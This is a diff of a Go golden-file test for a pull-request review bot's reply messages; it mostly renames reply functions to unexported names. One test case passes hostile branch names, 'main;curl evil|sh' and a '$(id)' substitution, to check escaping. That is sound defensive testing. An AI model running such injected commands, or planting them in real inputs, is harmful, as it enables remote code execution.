@@ -51,12 +51,12 @@ func TestRepliesGolden(t *testing.T) {
 		{"nothing-to-review", "nothingToReview", nothingToReview("octocat", cfg.SeatsOf("octocat"), "feat/y", reviewed, st)},
 		{"nothing-to-review-no-tasks", "nothingToReview", nothingToReview("octocat", cfg.SeatsOf("octocat"), "feat/none", reviewed, st)},
 		{"status", "StatusReply", StatusReply(st, "feat/x", checks.Waiting(".pact/log.jsonl", st, "feat/x", nil, nil, nil))},
-		{"renewed", "RenewedReply", RenewedReply("octocat", []string{"T1"}, reviewed)},
-		{"renewed-several", "RenewedReply", RenewedReply("rev-agent[bot]", []string{"T1", "T2"}, reviewed)},
-		{"config-unusable", "ConfigUnusable", ConfigUnusable(".github/pact.yml", "main", errors.New("seats.lead: <b>@org/team</b> is not a list of logins"))},
-		{"no-pact", "NoPact", NoPact(".pact/log.jsonl")},
-		{"comment-edited", "CommentEdited", CommentEdited("octocat")},
-		{"head-unknown", "HeadUnknown", HeadUnknown("a push to the branch is stamped in the same second as the comment, so which came first cannot be told")},
+		{"renewed", "renewedReply", renewedReply("octocat", []string{"T1"}, reviewed)},
+		{"renewed-several", "renewedReply", renewedReply("rev-agent[bot]", []string{"T1", "T2"}, reviewed)},
+		{"config-unusable", "configUnusable", configUnusable(".github/pact.yml", "main", errors.New("seats.lead: <b>@org/team</b> is not a list of logins"))},
+		{"no-pact", "noPact", noPact(".pact/log.jsonl")},
+		{"comment-edited", "commentEdited", commentEdited("octocat")},
+		{"head-unknown", "headUnknown", headUnknown("a push to the branch is stamped in the same second as the comment, so which came first cannot be told")},
 		{"branch-moved", "BranchMoved", BranchMoved([]string{accept.What, "changes_requested T2 (comment 9 by @octocat)"}, reviewed, now)},
 		{"engine-refusal", "EngineRefusal", EngineRefusal(accept.What, refusal.Code, refusal.Message, "")},
 		{"engine-refusal-future", "FutureHint", EngineRefusal(accept.What, refusal.Code, refusal.Message, FutureHint([]int{12, 13}, "2099-01-01T00:00:00Z"))},
@@ -66,12 +66,12 @@ func TestRepliesGolden(t *testing.T) {
 		{"log-cut-off", "LogCutOff", LogCutOff(".pact/log.jsonl", "feat/x", []string{accept.What, "changes_requested T2 (comment 9 by @octocat)"})},
 		{"fork", "ForkNotice", ForkNotice(WhyFork, "feat/login", []string{PactifyCommand(accept), PactifyCommand(changes)})},
 		{"fork-forbidden", "ForkNotice", ForkNotice(WhyForbidden, "feat/login", []string{PactifyCommand(accept)})},
-		{"update-conflict", "UpdateConflict", UpdateConflict("main", "feat/x", []string{"src/login.go", "docs/`@org/team`.md"}, 3, true)},
-		{"update-conflict-hostile-branch", "UpdateConflict", UpdateConflict("main;curl evil|sh", "feat/x'$(id)", []string{"src/a.go"}, 0, false)},
-		{"update-pact-conflict", "UpdatePactConflict", UpdatePactConflict("main", "feat/x", ".pact/log.jsonl", mergeConflict(t).Explain("the merge base", "main", "this branch"))},
+		{"update-conflict", "updateConflict", updateConflict("main", "feat/x", []string{"src/login.go", "docs/`@org/team`.md"}, 3, true)},
+		{"update-conflict-hostile-branch", "updateConflict", updateConflict("main;curl evil|sh", "feat/x'$(id)", []string{"src/a.go"}, 0, false)},
+		{"update-pact-conflict", "updatePactConflict", updatePactConflict("main", "feat/x", ".pact/log.jsonl", mergeConflict(t).Explain("the merge base", "main", "this branch"))},
 		{"update-cannot-workflows", "UpdateCannot", UpdateCannot("main", "feat/x", UpdateWhyWorkflows)},
-		{"update-cannot-unreadable", "UpdateCannot", UpdateCannot("main", "feat/x", UpdateWhyUnreadable(errors.New("<b>too many</b> @org names")))},
-		{"update-fork", "UpdateFork", UpdateFork("main", "feat/login")},
+		{"update-cannot-unreadable", "UpdateCannot", UpdateCannot("main", "feat/x", updateWhyUnreadable(errors.New("<b>too many</b> @org names")))},
+		{"update-fork", "updateFork", updateFork("main", "feat/login")},
 	}
 	dir := filepath.Join("testdata", "replies")
 	rendered := map[string]bool{}
@@ -94,7 +94,7 @@ func TestRepliesGolden(t *testing.T) {
 	// Every function of replies.go that writes a reply has a golden file;
 	// these only write parts of one.
 	parts := []string{"mention", "verbFor", "codeList", "quotedList", "orNone", "branchTasks", "problemNoArgs", "problemUnknownVerb", "FutureLines",
-		"UpdateMarker", "updateCommands", "UpdateWhyUnreadable"}
+		"updateMarker", "updateCommands", "updateWhyUnreadable"}
 	for _, name := range replyFuncs(t) {
 		if !rendered[name] && !slices.Contains(parts, name) {
 			t.Errorf("replies.go: %s writes a reply that no golden file shows; add a case", name)
